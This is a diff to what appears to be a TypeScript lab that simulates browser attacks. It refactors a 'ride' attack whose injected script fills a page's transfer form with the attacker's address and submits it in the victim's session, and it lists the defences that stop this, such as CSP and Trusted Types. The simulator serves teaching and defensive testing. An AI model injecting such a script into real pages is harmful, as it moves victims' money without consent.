@@ -3,6 +3,15 @@
 import { succeeded, stopped, type Attack } from '../attack.ts'
 import { press } from '../scene.ts'
 import { fruitless } from './loot.ts'
+import type { Payload } from '../world/payload.ts'
+
+const script: Payload = async (kit) => {
+  const form = document.querySelector('#transfer') as HTMLFormElement
+  const to = form.elements.namedItem('to') as HTMLInputElement
+  to.value = kit.params['to'] ?? ''
+  form.requestSubmit()
+  await new Promise((resolve) => setTimeout(resolve, 300))
+}
 
 export const ride: Attack = {
   name: 'ride',
@@ -11,6 +20,7 @@ export const ride: Attack = {
   what: 'The script fills in the transfer form and presses “Send”. The page does the rest, with whatever credential it has.',
   why: 'To the server this is the victim at work. No storage, closure, worker or key makes a difference while the page is open.',
   stops: 'Only a page that runs no script of strangers: a strict CSP, Trusted Types, few dependencies.',
+  script: { when: 'late', payload: script },
   control: 'session',
   succeedsOn: [
     'session',
@@ -24,16 +34,7 @@ export const ride: Attack = {
   ],
   async run(scene) {
     const page = await scene.signIn()
-    await scene.injectLate(
-      async (kit) => {
-        const form = document.querySelector('#transfer') as HTMLFormElement
-        const to = form.elements.namedItem('to') as HTMLInputElement
-        to.value = kit.params['to'] ?? ''
-        form.requestSubmit()
-        await new Promise((resolve) => setTimeout(resolve, 300))
-      },
-      { to: scene.attacker.email },
-    )
+    await scene.injectLate(script, { to: scene.attacker.email })
     await press(page, '#read-notes', /read|sent|error/)
     const report = await scene.thief.report()
     const transfers = scene.ledger.find({ deed: 'transfer', by: scene.victim.email, detail: scene.attacker.email })
